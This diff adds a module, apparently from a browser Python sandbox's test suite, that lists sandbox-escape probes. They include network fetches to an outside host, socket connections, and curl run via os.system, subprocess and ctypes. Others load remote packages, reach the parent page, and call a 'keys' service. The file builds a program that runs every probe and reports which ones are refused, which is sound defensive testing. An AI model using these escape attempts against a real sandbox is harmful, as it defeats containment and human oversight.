@@ -1,0 +1,99 @@
+/** Ways out of the sandbox from Python: what a program tries. Each is the body of a function that returns what it could get. */
+export const pythonAttacks: Readonly<Record<string, string>> = {
+  'js.fetch': `import js
+return run_sync(js.fetch(OUTSIDE)).status`,
+  'pyodide.http.pyfetch': `from pyodide.http import pyfetch
+return run_sync(pyfetch(OUTSIDE)).status`,
+  'pyodide.http.open_url': `from pyodide.http import open_url
+return open_url(OUTSIDE).read()`,
+  'urllib.request': `import urllib.request
+return urllib.request.urlopen(OUTSIDE).status`,
+  'http.client': `import http.client
+connection = http.client.HTTPConnection('localhost', PORT)
+connection.request('GET', '/http.client')
+return connection.getresponse().status`,
+  urllib3: `import urllib3
+return urllib3.request('GET', OUTSIDE).status`,
+  'a socket': `import socket
+one = socket.create_connection(('127.0.0.1', PORT), timeout=5)
+one.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')
+return one.recv(10)`,
+  ctypes: `import ctypes
+code = ctypes.CDLL(None).system(b'curl ' + OUTSIDE.encode())
+assert code == 0, f'system answers {code}'
+return code`,
+  subprocess: `import subprocess
+return subprocess.run(['curl', OUTSIDE])`,
+  'os.system': `import os
+code = os.system('curl ' + OUTSIDE)
+assert code == 0, f'system answers {code}'
+return code`,
+  micropip: `import micropip
+return run_sync(micropip.install(OUTSIDE + '/x-1.0-py3-none-any.whl'))`,
+  'pyodide_js.loadPackage': `import pyodide_js
+run_sync(pyodide_js.loadPackage(OUTSIDE + '/x-1.0-py3-none-any.whl'))
+import x
+return 'loaded'`,
+  run_js: `from pyodide.code import run_js
+return run_js('1 + 1')`,
+  'js.eval': `import js
+return js.eval('1 + 1')`,
+  'a function from text': `import js
+return js.Function.new('return 1')()`,
+  'synchronous XMLHttpRequest': `import js
+request = js.XMLHttpRequest.new()
+request.open('GET', OUTSIDE, False)
+request.send()
+return request.status`,
+  'a request of the site': `import js
+return run_sync(js.fetch(js.location.origin + '/')).status`,
+  importScripts: `import js
+return js.importScripts(OUTSIDE)`,
+  WebSocket: `import js
+return js.WebSocket.new(OUTSIDE)`,
+  'a worker': `import js
+return js.Worker.new(OUTSIDE)`,
+  EventSource: `import js
+return js.EventSource.new(OUTSIDE)`,
+  'a constructor found on a prototype': `import js
+return js.Object.getPrototypeOf(js.globalThis).constructor.prototype.WebSocket.new(OUTSIDE)`,
+  indexedDB: `import js
+return js.indexedDB.open('x')`,
+  caches: `import js
+return run_sync(js.caches.open('x'))`,
+  'the file system of the origin': `import js
+return run_sync(js.navigator.storage.getDirectory())`,
+  'a sub-interpreter': `from concurrent import interpreters
+return interpreters.create().exec('import urllib.request; urllib.request.urlopen("' + OUTSIDE + '")')`,
+  'WebAssembly by streaming': `import js
+return run_sync(js.WebAssembly.compileStreaming(js.fetch(OUTSIDE)))`,
+  'the page above': `import js
+return js.parent.location`,
+  'the frame': `import js
+return js.postMessage('x')`,
+  'another service of the page': `import sandbox_port
+return sandbox_port.call('keys', 'get')`,
+  'the constructor of a service': `import sandbox_port
+return sandbox_port.call('files', 'constructor')`,
+};
+
+/** A program that tries all of them, and prints for each in one line how it was refused, or what it got. */
+export function attackingProgram(outside: string): string {
+  const port = new URL(outside).port;
+  const functions = Object.entries(pythonAttacks).map(
+    ([name, body], index) =>
+      `def attack_${index}():\n${body.replaceAll(/^/gm, '    ')}\nattacks.append((${JSON.stringify(name)}, attack_${index}))\n`,
+  );
+  return `from pyodide.ffi import run_sync
+OUTSIDE = ${JSON.stringify(outside)}
+PORT = ${port}
+attacks = []
+${functions.join('\n')}
+for name, attack in attacks:
+    try:
+        print(f'{name}: GOT {attack()!r}')
+    except BaseException as error:
+        text = ' '.join(str(error).split())
+        print(f'{name}: refused, {type(error).__name__}: {text[:160]}')
+`;
+}
